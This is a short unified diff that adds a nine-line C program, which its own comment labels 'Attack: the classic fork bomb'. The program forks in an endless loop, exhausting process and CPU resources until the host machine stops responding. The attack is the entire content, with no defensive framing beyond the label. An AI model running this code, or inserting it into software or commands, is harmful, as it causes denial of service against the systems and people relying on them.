@@ -1,0 +1,9 @@
+/* Attack: the classic fork bomb; every process forks forever. */
+#include <unistd.h>
+
+int
+main(void)
+{
+	for (;;)
+		fork();
+}
